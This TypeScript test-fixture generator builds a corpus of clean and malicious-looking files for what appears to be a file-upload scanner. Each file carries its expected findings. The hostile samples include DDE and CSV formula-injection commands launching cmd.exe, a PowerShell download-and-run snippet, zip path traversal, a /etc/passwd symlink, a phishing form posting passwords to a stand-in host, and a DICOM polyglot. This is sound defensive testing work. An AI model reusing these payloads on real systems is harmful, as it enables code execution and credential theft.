/** A legacy PowerPoint file with a hyperlink ([MS-PPT] ExHyperlinkContainer: ExHyperlinkAtom, then the target as a CString of instance 1). */
export function powerPointHyperlink(target: string): Buffer {
  const id = Buffer.alloc(4);
  id.writeUInt32LE(1);
  const hyperlink = pptRecord(
    0xf,
    0,
    0x0fd7,
    Buffer.concat([
      pptRecord(0, 0, 0x0fd3, id),
      pptRecord(0, 0, 0x0fba, Buffer.from('Manual', 'utf16le')),
      pptRecord(0, 1, 0x0fba, Buffer.from(target, 'utf16le')),
    ]),
  );
  return powerPointOf([pptRecord(0xf, 0, 0x0409, hyperlink)]);
}

/**
 * A Word 97-2003 document whose FIB ([MS-DOC] 2.5.1: FibBase, csw 14, cslw 22, cbRgFcLcb 93 for
 * Word 97) points fcSttbfAssoc into "1Table" at an SttbfAssoc whose ibstAssocDot is `template`.
 */
export function wordWithTemplate(template: string): Buffer {
  const document = Buffer.alloc(1536);
  document.writeUInt16LE(0xa5ec, 0);
  document.writeUInt16LE(0x0200, 0x0a); // fWhichTblStm: "1Table"
  document.writeUInt16LE(14, 32);
  document.writeUInt16LE(22, 62);
  document.writeUInt16LE(93, 152);
  const strings = Array.from({ length: 18 }, (_, index) => (index === 1 ? template : ''));
  const sttb = Buffer.concat([
    Buffer.from([0xff, 0xff, strings.length, 0, 0, 0]),
    ...strings.map((text) => Buffer.concat([Buffer.from([text.length & 0xff, text.length >> 8]), Buffer.from(text, 'utf16le')])),
  ]);
  const table = Buffer.concat([Buffer.alloc(64), sttb]);
  document.writeUInt32LE(64, 154 + 32 * 8);
  document.writeUInt32LE(sttb.length, 154 + 32 * 8 + 4);
  return compoundFile({ '/WordDocument': document, '/1Table': table });
}

/** A Word 97-2003 document whose text holds a field (0x13 instruction 0x14 result 0x15), 8-bit text as Word writes for Latin text. */
export function wordWithField(instruction: string): Buffer {
  const text = Buffer.from(`Service report\r\u0013 ${instruction} \u0014result\u0015\r`, 'latin1');
  return compoundFile({ '/WordDocument': Buffer.concat([Buffer.alloc(1536), text]), '/1Table': Buffer.alloc(64) });
}

// ─── the corpus ────────────────────────────────────────────────────────────────────────

const CLEAN_TEXT = 'Service log\nDevice: CT-7 serial 12345\nAll checks passed.\n';
const CLEAN_CSV = 'date,device,result\n2024-01-01,CT-7,ok\n2024-01-02,MR-3,ok\n';
const CLEAN_XML = '<?xml version="1.0"?>\n<report><device>CT-7</device><result>ok</result></report>\n';
const CLEAN_JSON = '{"device":"CT-7","checks":[1,2,3],"ok":true}\n';
const CLEAN_HTML =
  '<!DOCTYPE html>\n<html><head><title>Report</title></head><body><p>All checks passed. Contact: online support.</p></body></html>\n';
const CLEAN_SVG =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="blue"/></svg>\n';

export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
  const entries: CorpusEntry[] = [];
  const add = async (relativePath: string, data: Buffer | string, expected: CorpusEntry['expected']) => {
    const file = path.join(dir, relativePath);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, data);
    entries.push({ relativePath, expected });
  };

  // EICAR: anti-virus is someone else's; as content it is plain text.
  const eicarZip = await zipOf([{ name: 'eicar.com', data: EICAR }]);
  await add('eicar/eicar.txt', EICAR, { type: 'txt', findings: [] });
  await add('eicar/report.pdf', EICAR, { type: 'txt', findings: ['EXTENSION_MISMATCH'] });
  await add('eicar/eicar.zip', eicarZip, { type: 'zip', findings: ['EXTENSION_MISMATCH'], innerTypes: ['txt'] });
  await add('eicar/eicar-nested.zip', await zipOf([{ name: 'inner.zip', data: eicarZip }]), {
    type: 'zip',
    findings: ['EXTENSION_MISMATCH'],
    innerTypes: ['zip', 'txt'],
  });

  // Office Open XML.
  const vba = { name: 'word/vbaProject.bin', data: compoundFile({ '/VBA/_VBA_PROJECT': 'x', '/VBA/dir': 'y' }) };
  const docm = await ooxml('docm', [vba]);
  await add('office/macro.docm', docm, { type: 'docm', findings: ['OFFICE_MACRO'] });
  await add('office/macro-renamed.docx', docm, { type: 'docm', findings: ['EXTENSION_MISMATCH', 'OFFICE_MACRO'] });
  await add('office/activex.xlsx', await ooxml('xlsx', [{ name: 'xl/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="urn:x"/>' }]), {
    type: 'xlsx',
    findings: ['OFFICE_ACTIVEX'],
  });
  await add(
    'office/ole-object.docx',
    await ooxml('docx', [{ name: 'word/embeddings/oleObject1.bin', data: compoundFile({ '/\u0001Ole10Native': 'payload' }) }]),
    { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
  );
  await add(
    'office/embedded-xlsm.docx',
    await ooxml('docx', [
      { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsm', data: await ooxml('xlsm', [{ name: 'xl/vbaProject.bin', data: 'vba' }]) },
    ]),
    {
      type: 'docx',
      findings: ['OFFICE_MACRO'],
      innerTypes: ['xlsm'],
    },
  );
  const odt = (parts: readonly ZipItem[]) =>
    zipOf([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
      { name: 'content.xml', data: '<office:document-content/>' },
      ...parts,
    ]);
  await add('office/macro.odt', await odt([{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }]), {
    type: 'odt',
    findings: ['OFFICE_MACRO'],
  });
  await add('office/clean.odt', await odt([]), { type: 'odt', findings: [] });
  await add('office/clean.docx', await ooxml('docx'), { type: 'docx', findings: [] });
  await add('office/clean.xlsx', await ooxml('xlsx'), { type: 'xlsx', findings: [] });
  await add('office/clean.pptx', await ooxml('pptx'), { type: 'pptx', findings: [] });

  // Legacy OLE.
  await add(
    'office/macro.doc',
    compoundFile({ '/WordDocument': Buffer.alloc(512), '/Macros/VBA/_VBA_PROJECT': 'x', '/Macros/VBA/dir': 'y' }),
    { type: 'doc', findings: ['OFFICE_MACRO'] },
  );
  await add('office/clean.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/1Table': Buffer.alloc(64) }), {
    type: 'doc',
    findings: [],
  });
  await add('office/embedded.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/ObjectPool/_1234/\u0001Ole10Native': 'payload' }), {
    type: 'doc',
    findings: ['OFFICE_EMBEDDED_OBJECT'],
  });
  await add('office/excel4-macro.xls', compoundFile({ '/Workbook': biffWorkbook(1) }), { type: 'xls', findings: ['OFFICE_MACRO'] });
  await add('office/clean.xls', compoundFile({ '/Workbook': biffWorkbook(0) }), { type: 'xls', findings: [] });
  await add('office/installer.msi', compoundFile({ '/\u4840\u3f3f\u4577': Buffer.alloc(64) }, '84100c0000000000c000000000000046'), {
    type: 'msi',
    findings: ['EXECUTABLE'],
  });
  await add('office/protected.docx', compoundFile({ '/EncryptionInfo': Buffer.alloc(64), '/EncryptedPackage': Buffer.alloc(256) }), {
    type: 'encrypted-office',
    findings: ['ARCHIVE_ENCRYPTED'],
  });
  await add('office/attachment.msg', outlookMessage('invoice.pdf', portableExecutable()), {
    type: 'msg',
    findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'],
    innerTypes: ['pe'],
  });

  // PDF.
  for (const [name, pdf] of Object.entries(PDFS)) await add(`pdf/${name}`, pdf.bytes(), { type: 'pdf', findings: pdf.findings });

  // HTML and SVG.
  await add('web/script.html', '<html><body><script>alert(1)</script></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
  await add('web/onload.html', '<html><body onload="go()"><p>x</p></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
  await add('web/javascript-url.htm', '<html><body><a href="jav&#x61;script:alert(1)">x</a></body></html>', {
    type: 'html',
    findings: ['HTML_SCRIPT'],
  });
  await add('web/iframe.html', '<!DOCTYPE html><html><body><iframe src="https://example.invalid/"></iframe></body></html>', {
    type: 'html',
    findings: ['HTML_SCRIPT'],
  });
  await add('web/script.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', {
    type: 'svg',
    findings: ['SVG_SCRIPT'],
  });
  await add(
    'web/onclick.svg',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)" width="5" height="5"/></svg>',
    { type: 'svg', findings: ['SVG_SCRIPT'] },
  );
  await add(
    'web/foreign-object.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>',
    { type: 'svg', findings: ['SVG_SCRIPT'] },
  );
  await add('web/clean.html', CLEAN_HTML, { type: 'html', findings: [] });
  await add('web/clean.svg', CLEAN_SVG, { type: 'svg', findings: [] });
  await add('web/app.hta', '<html><head><HTA:APPLICATION ID="x"/></head><body>hi</body></html>', { type: 'script', findings: ['SCRIPT'] });

  // Executables and shortcuts, whatever their names.
  await add('exe/readme.txt', portableExecutable(), { type: 'pe', findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'] });
  await add('exe/image.jpg', portableExecutable(), { type: 'pe', findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'] });
  await add('exe/tool.exe', portableExecutable(), { type: 'pe', findings: ['EXECUTABLE'] });
  await add('exe/report.pdf', elf(), { type: 'elf', findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'] });
  await add('exe/daemon', elf(), { type: 'elf', findings: ['EXECUTABLE'] });
  await add('exe/app.dylib', machO(), { type: 'macho', findings: ['EXECUTABLE'] });
  await add('exe/universal.bin', machO(true), { type: 'macho', findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'] });
  await add('exe/shortcut.lnk', shortcut(), { type: 'lnk', findings: ['SHORTCUT'] });
  await add('exe/manual.pdf.lnk', shortcut(), { type: 'lnk', findings: ['SHORTCUT'] });

  // Scripts, by extension and by content.
  await add('scripts/run.ps1', "Write-Host 'hello'\n", { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/run.bat', '@echo off\r\necho hello\r\n', { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/run.cmd', 'hello\r\n', { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/run.vbs', 'MsgBox "hello"\n', { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/run.js', '{"looks":"like json"}', { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/run.sh', '#!/bin/sh\necho hello\n', { type: 'script', findings: ['SCRIPT'] });
  await add('scripts/shebang.txt', '#!/usr/bin/env python3\nprint("hello")\n', {
    type: 'script',
    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
  });
  await add('scripts/batch.txt', '@ECHO OFF\r\ndel /q C:\\temp\\*\r\n', { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
  await add('scripts/powershell.log', '$env:TEMP\nInvoke-WebRequest -Uri $u -OutFile x\nStart-Process x\n', {
    type: 'script',
    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
  });
  await add('scripts/vbscript.txt', 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', {
    type: 'script',
    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
  });
  await add('scripts/jscript.txt', 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n', {
    type: 'script',
    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
  });
  await add('scripts/settings.reg', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n', {
    type: 'script',
    findings: ['SCRIPT'],
  });

  // DICOM (CVE-2019-11687).
  await add('dicom/polyglot.dcm', dicomPolyglot(), {
    type: 'dicom',
    findings: ['DICOM_PREAMBLE_ZEROED'],
    transform: 'dicom-zero-preamble',
  });
  await add('dicom/polyglot.exe', dicomPolyglot(), {
    type: 'dicom',
    findings: ['DICOM_PREAMBLE_ZEROED', 'EXTENSION_MISMATCH'],
    transform: 'dicom-zero-preamble',
  });
  await add('dicom/IM0001', dicom(), { type: 'dicom', findings: [], transform: null });
  await add('dicom/1.2.840.113619.2.55.3.320', dicom(), { type: 'dicom', findings: [], transform: null });
  await add('dicom/vendor.dcm', dicom(Buffer.from('ACME MODALITY PREAMBLE'.padEnd(128, ' '), 'latin1')), {
    type: 'dicom',
    findings: ['DICOM_PREAMBLE_ZEROED'],
    transform: 'dicom-zero-preamble',
  });
  await add('dicom/tiff.dcm', dicom(Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(120)])), {
    type: 'dicom',
    findings: ['DICOM_PREAMBLE_TIFF'],
    transform: null,
  });
  await add(
    'dicom/study.zip',
    await zipOf([
      { name: 'IM0001.dcm', data: dicom() },
      { name: 'IM0002.dcm', data: dicomPolyglot() },
    ]),
    { type: 'zip', findings: ['EXECUTABLE'], innerTypes: ['dicom'] },
  );

  // Archives that must be stopped.
  await mkdir(path.join(dir, 'archives'), { recursive: true });
  await writeZerosBomb(path.join(dir, 'archives/bomb.zip'), 'zeros.bin', 3 * 1024);
  // Its one entry is read to its end (a fixed VHD's footer is there) and stopped on the way: no type is recorded.
  entries.push({ relativePath: 'archives/bomb.zip', expected: { type: 'zip', findings: ['ARCHIVE_RATIO'], innerTypes: [] } });
  const level4 = await zipOf([{ name: 'deep.txt', data: CLEAN_TEXT }]);
  const level3 = await zipOf([{ name: 'l4.zip', data: level4 }]);
  const level2 = await zipOf([{ name: 'l3.zip', data: level3 }]);
  await add('archives/too-deep.zip', await zipOf([{ name: 'l2.zip', data: level2 }]), {
    type: 'zip',
    findings: ['ARCHIVE_TOO_DEEP'],
    innerTypes: ['zip'],
  });
  await add('archives/lying-header.zip', handZip([deflatedEntry('small.txt', 'x'.repeat(5000), { declaredSize: 10 })]), {
    type: 'zip',
    findings: ['ARCHIVE_CORRUPT'],
    innerTypes: ['txt'],
  });
  await add(
    'archives/traversal.zip',
    handZip([
      storedEntry('../../evil.txt', 'a'),
      storedEntry('C:\\evil.txt', 'b'),
      storedEntry('/etc/x', 'c'),
      storedEntry('ok/fine.txt', 'd'),
    ]),
    { type: 'zip', findings: ['ARCHIVE_PATH_TRAVERSAL'], innerTypes: ['txt'] },
  );
  await add('archives/encrypted.zip', handZip([storedEntry('secret.txt', Buffer.alloc(40, 7), { flags: 0x0801, declaredSize: 28 })]), {
    type: 'zip',
    findings: ['ARCHIVE_ENCRYPTED'],
  });
  await add('archives/symlink.zip', handZip([storedEntry('link', '/etc/passwd', { externalAttributes: (0o120777 << 16) >>> 0 })]), {
    type: 'zip',
    findings: ['ARCHIVE_LINK'],
  });
  await add('archives/corrupt.zip', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 0x41)]), {
    type: 'zip',
    findings: ['ARCHIVE_CORRUPT'],
  });
  await add(
    'archives/hidden-exe.zip',
    await zipOf([
      { name: 'docs/readme.txt', data: portableExecutable() },
      { name: 'docs/macro.docm', data: docm },
    ]),
    {
      type: 'zip',
      findings: ['EXECUTABLE', 'EXTENSION_MISMATCH', 'OFFICE_MACRO'],
      innerTypes: ['pe', 'docm'],
    },
  );
  await add('archives/zip64.zip', await zipOf([{ name: 'log.txt', data: CLEAN_TEXT, zip64: true }]), {
    type: 'zip',
    findings: [],
    innerTypes: ['txt'],
  });
  await add('archives/log.txt.gz', zlib.gzipSync(CLEAN_TEXT), { type: 'gz', findings: [], innerTypes: ['txt'] });

  // Smuggling: files blocked at the top level must be blocked inside archives too (ISO/OneNote campaigns).
  const lure = [
    { name: 'invoice.hta', data: HTA },
    { name: 'readme.js', data: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n' },
    { name: 'invoice.pdf.lnk', data: shortcut() },
  ];
  await add('smuggling/iso-in.zip', await zipOf([{ name: 'invoice.iso', data: isoImage(lure) }]), {
    type: 'zip',
    findings: ['CONTAINER_NOT_INSPECTABLE'],
    innerTypes: ['iso'],
  });
  const scriptsTar = tarOf([
    { name: 'tools/', type: '5' },
    { name: 'tools/run.ps1', data: "Write-Host 'x'\n" },
    { name: 'tools/update.hta', data: HTA },
  ]);
  await add('smuggling/tar-in.zip', await zipOf([{ name: 'scripts.tar', data: scriptsTar }]), {
    type: 'zip',
    findings: ['HTML_SCRIPT', 'SCRIPT'],
    innerTypes: ['tar', 'script'],
  });
  await add('smuggling/onenote-in.zip', await zipOf([{ name: 'Invoice.one', data: oneNote(HTA) }]), {
    type: 'zip',
    findings: ['CONTAINER_NOT_INSPECTABLE'],
    innerTypes: ['one'],
  });
  const phishing =
    '<!DOCTYPE html><html><body><form action="https://login.example.invalid/collect" method="post"><input name="user"><input name="password" type="password"></form></body></html>';
  await add('smuggling/phishing-in.zip', await zipOf([{ name: 'Microsoft365-login.html', data: phishing }]), {
    type: 'zip',
    findings: [],
    innerTypes: ['html'],
  });
  await add('smuggling/binary-in.zip', await zipOf([{ name: 'update.dat', data: randomBinary() }]), {
    type: 'zip',
    findings: [],
    innerTypes: ['unknown'],
  });
  await add('smuggling/vhd-in.tar.gz', zlib.gzipSync(tarOf([{ name: 'disk.vhd', data: vhdDynamic() }])), {
    type: 'gz',
    findings: ['CONTAINER_NOT_INSPECTABLE'],
    innerTypes: ['tar', 'vhd'],
  });

  // Containers recognised by content.
  const containers: [string, Buffer, string][] = [
    ['containers/invoice.iso', isoImage(lure), 'iso'],
    ['containers/dynamic.vhd', vhdDynamic(), 'vhd'],
    ['containers/fixed.vhd', vhdFixed(randomBinary(8192)), 'vhd'],
    ['containers/disk.vhdx', vhdx(), 'vhdx'],
    ['containers/mbr.img', mbrDiskImage(), 'img'],
    ['containers/gpt.img', gptDiskImage(), 'img'],
    ['containers/notes.one', oneNote(HTA), 'one'],
    ['containers/notebook.onetoc2', Buffer.concat([Buffer.from('a12fff43d9ef764c9ee210ea5722765f', 'hex'), Buffer.alloc(1024)]), 'one'],
    ['containers/setup.cab', cabinet(), 'cab'],
    ['containers/archive.7z', sevenZip(), '7z'],
    ['containers/archive.rar', rar(5), 'rar'],
    ['containers/old.rar', rar(4), 'rar'],
  ];
  for (const [relativePath, data, type] of containers) await add(relativePath, data, { type, findings: ['CONTAINER_NOT_INSPECTABLE'] });
  await add('containers/scripts.tar', scriptsTar, { type: 'tar', findings: ['HTML_SCRIPT', 'SCRIPT'], innerTypes: ['script'] });
  await add(
    'containers/logs.tar',
    tarOf([
      { name: 'logs/service.log', data: CLEAN_TEXT },
      { name: 'logs/results.csv', data: CLEAN_CSV },
    ]),
    { type: 'tar', findings: [], innerTypes: ['txt', 'csv'] },
  );
  await add('containers/link.tar', tarOf([{ name: 'passwd', type: '2', linkname: '/etc/passwd' }]), {
    type: 'tar',
    findings: ['ARCHIVE_LINK'],
  });
  await add('containers/traversal.tar', tarOf([{ name: '../../evil.txt', data: 'x' }]), {
    type: 'tar',
    findings: ['ARCHIVE_PATH_TRAVERSAL'],
    innerTypes: ['txt'],
  });
  await add('containers/logs.tar.gz', zlib.gzipSync(tarOf([{ name: 'service.log', data: CLEAN_TEXT }])), {
    type: 'gz',
    findings: [],
    innerTypes: ['tar', 'txt'],
  });

  // Office active content that no part name gives away.
  const rels = (part: string, relationships: Parameters<typeof relsPart>[0]) => ({ name: part, data: relsPart(relationships) });
  await add(
    'office/package-in-media.docx',
    await ooxml('docx', [{ name: 'word/media/image1.png', data: olePackage('invoice.hta', HTA) }]),
    { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
  );
  await add(
    'office/package-custom-part.xlsx',
    await ooxml('xlsx', [{ name: 'customXml/item9.dat', data: olePackage('run.js', 'WScript.Echo(1);') }]),
    { type: 'xlsx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
  );
  await add(
    'office/external-ole.docx',
    await ooxml('docx', [
      rels('word/_rels/document.xml.rels', [{ id: 'rId9', type: 'oleObject', target: 'http://203.0.113.7/template.rtf', external: true }]),
    ]),
    { type: 'docx', findings: ['OFFICE_EXTERNAL_OBJECT'] },
  );
  await add(
    'office/remote-template.docx',
    await ooxml('docx', [
      rels('word/_rels/settings.xml.rels', [
        { id: 'rId1', type: 'attachedTemplate', target: 'https://templates.example.invalid/normal.dotm', external: true },
      ]),
    ]),
    { type: 'docx', findings: ['OFFICE_REMOTE_TEMPLATE'] },
  );
  await add(
    'office/altchunk.docx',
    await ooxml('docx', [
      rels('word/_rels/document.xml.rels', [{ id: 'rId5', type: 'aFChunk', target: 'afchunk.mht' }]),
      { name: 'word/afchunk.mht', data: '<html><body><script>alert(1)</script></body></html>' },
    ]),
    { type: 'docx', findings: ['OFFICE_ALTCHUNK'] },
  );
  const slide =
    '<?xml version="1.0"?><p:sld xmlns:p="urn:p" xmlns:a="urn:a" xmlns:r="urn:r"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Play"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>';
  await add(
    'office/ppaction.pptx',
    await ooxml('pptx', [
      { name: 'ppt/slides/slide1.xml', data: slide },
      rels('ppt/slides/_rels/slide1.xml.rels', [
        { id: 'rId2', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true },
      ]),
    ]),
    { type: 'pptx', findings: ['OFFICE_DANGEROUS_LINK'] },
  );
  await add(
    'office/unc-link.docx',
    await ooxml('docx', [
      rels('word/_rels/document.xml.rels', [
        { id: 'rId3', type: 'hyperlink', target: '\\\\files.example.invalid\\share\\report.exe', external: true },
      ]),
    ]),
    { type: 'docx', findings: ['OFFICE_DANGEROUS_LINK'] },
  );
  await add(
    'office/web-link.docx',
    await ooxml('docx', [
      rels('word/_rels/document.xml.rels', [
        { id: 'rId3', type: 'hyperlink', target: 'https://www.example.com/manual?a=1&amp;b=2', external: true },
      ]),
    ]),
    { type: 'docx', findings: [] },
  );
  const wordBody = (runs: string) =>
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`;
  const splitDde =
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
  await add('office/dde.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody(splitDde) }]), {
    type: 'docx',
    findings: ['OFFICE_DDE'],
  });
  await add(
    'office/dde-simple.docx',
    await ooxml('docx', [
      {
        name: 'word/document.xml',
        data: wordBody('<w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; x"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
      },
    ]),
    { type: 'docx', findings: ['OFFICE_DDE'] },
  );
  await add(
    'office/field.docx',
    await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>') }]),
    { type: 'docx', findings: [] },
  );
  await add(
    'office/ddelink.xlsx',
    await ooxml('xlsx', [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
      },
    ]),
    { type: 'xlsx', findings: ['OFFICE_DDE'] },
  );
  await add(
    'office/dde-formula.xlsx',
    await ooxml('xlsx', [
      {
        name: 'xl/worksheets/sheet1.xml',
        data: '<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>',
      },
    ]),
    { type: 'xlsx', findings: ['OFFICE_DDE'] },
  );
  await add('office/macro.ppt', powerPointWithMacros(true), { type: 'ppt', findings: ['OFFICE_MACRO'] });
  await add('office/clean.ppt', powerPointWithMacros(false), { type: 'ppt', findings: [] });
  await add('office/object.ppt', powerPointWithObject(olePackage('invoice.hta', HTA)), {
    type: 'ppt',
    findings: ['OFFICE_EMBEDDED_OBJECT'],
  });
  await add('office/run-program.ppt', powerPointRunProgram(), { type: 'ppt', findings: ['OFFICE_DANGEROUS_LINK'] });
  await add('office/file-link.ppt', powerPointHyperlink('file:///C:/Windows/System32/calc.exe'), {
    type: 'ppt',
    findings: ['OFFICE_DANGEROUS_LINK'],
  });
  await add('office/web-link.ppt', powerPointHyperlink('https://www.example.com/manual'), { type: 'ppt', findings: [] });
  await add('office/dde.doc', wordWithField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), {
    type: 'doc',
    findings: ['OFFICE_DDE'],
  });
  await add('office/page-field.doc', wordWithField('PAGE'), { type: 'doc', findings: [] });
  await add('office/remote-template.doc', wordWithTemplate('\\\\203.0.113.9\\share\\Normal.dotm'), {
    type: 'doc',
    findings: ['OFFICE_REMOTE_TEMPLATE'],
  });
  await add('office/local-template.doc', wordWithTemplate('C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), {
    type: 'doc',
    findings: [],
  });
  await add('office/dde-link.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(0, 'cmd\u0003/c calc')]]) }), {
    type: 'xls',
    findings: ['OFFICE_DDE'],
  });
  await add(
    'office/external-workbook.xls',
    compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(1, '\u0001\\\\server\\share\\budget.xls')]]) }),
    { type: 'xls', findings: ['OFFICE_EXTERNAL_RELATIONSHIP'] },
  );
  await add('office/self-reference.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, Buffer.from('01000104', 'hex')]]) }), {
    type: 'xls',
    findings: [],
  });

  // Text that is more than text.
  const rtfObject =
    '{\\rtf1\\ansi\\deff0{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata 0105000002000000080000005061636b61676500}}}';
  await add('text/embedded-object.txt', rtfObject, { type: 'rtf', findings: ['EXTENSION_MISMATCH', 'RTF_EMBEDDED_OBJECT'] });
  await add('text/report.rtf', '{\\rtf1\\ansi Service report\\par All checks passed.\\par}', { type: 'rtf', findings: [] });
  await add(
    'text/xhtml-script.xml',
    '<?xml version="1.0"?>\n<report xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></report>\n',
    { type: 'xml', findings: ['XML_SCRIPT'] },
  );
  await add(
    'text/remote-stylesheet.xml',
    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.example.invalid/report.xsl"?>\n<report><result>ok</result></report>\n',
    { type: 'xml', findings: ['XML_REMOTE_STYLESHEET'] },
  );
  await add(
    'text/local-stylesheet.xml',
    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="report.xsl"?>\n<report><result>ok</result></report>\n',
    { type: 'xml', findings: [] },
  );
  await add('text/formula.csv', "device,result\nCT-7,=cmd|' /C calc'!A0\nMR-3,ok\n", { type: 'csv', findings: ['CSV_FORMULA'] });
  await add('text/at-formula.csv', 'device;note\nCT-7;"\t@SUM(1+1)*cmd|\'/C calc\'!A0"\nMR-3;ok\n', {
    type: 'csv',
    findings: ['CSV_FORMULA'],
  });
  await add('text/signed-numbers.csv', 'date,delta,phone\n2024-01-01,-5,+81-3-1234-5678\n2024-01-02,+3,-\n', { type: 'csv', findings: [] });

  // DICOM: what the data set carries and what follows it.
  await add('dicom/encapsulated-pdf.dcm', dicomEncapsulatedPdf(PDFS['object-stream.pdf']!.bytes()), {
    type: 'dicom',
    findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'],
    innerTypes: ['pdf'],
  });
  await add('dicom/encapsulated-clean.dcm', dicomEncapsulatedPdf(PDFS['clean.pdf']!.bytes()), {
    type: 'dicom',
    findings: [],
    innerTypes: ['pdf'],
  });
  await add('dicom/trailing-zip.dcm', Buffer.concat([dicom(), await zipOf([{ name: 'run.js', data: 'WScript.Echo(1);' }])]), {
    type: 'dicom',
    findings: ['DICOM_TRAILING_DATA'],
  });

  // The clean set of every allowed type.
  const clean: [string, Buffer | string, string][] = [
    ['clean/IM0001.dcm', dicom(), 'dicom'],
    ['clean/photo.png', png(), 'png'],
    ['clean/photo.jpg', jpeg(), 'jpeg'],
    ['clean/photo.jpeg', jpeg(), 'jpeg'],
    ['clean/scan.tif', tiff(), 'tiff'],
    ['clean/report.pdf', PDFS['clean.pdf']!.bytes(), 'pdf'],
    ['clean/service.log', CLEAN_TEXT, 'txt'],
    ['clean/notes.txt', CLEAN_TEXT, 'txt'],
    ['clean/results.csv', CLEAN_CSV, 'csv'],
    ['clean/results.txt', CLEAN_CSV, 'csv'],
    ['clean/report.xml', CLEAN_XML, 'xml'],
    ['clean/device.json', CLEAN_JSON, 'json'],
    ['clean/japanese.txt', Buffer.from('点検結果：異常なし\n担当：山田\n', 'utf8'), 'txt'],
    ['clean/utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Windows export\r\nline two\r\n', 'utf16le')]), 'txt'],
    ['clean/report.docx', await ooxml('docx'), 'docx'],
    ['clean/table.xlsx', await ooxml('xlsx'), 'xlsx'],
    ['clean/slides.pptx', await ooxml('pptx'), 'pptx'],
  ];
  for (const [relativePath, data, type] of clean) await add(relativePath, data, { type, findings: [], transform: null });
  await add(
    'clean/bundle.zip',
    await zipOf(clean.map(([relativePath, data]) => ({ name: `bundle/${path.basename(relativePath)}`, data }))),
    { type: 'zip', findings: [], innerTypes: ['dicom', 'png', 'jpeg', 'tiff', 'pdf', 'txt', 'csv', 'xml', 'json', 'docx', 'xlsx', 'pptx'] },
  );
  return entries;
}
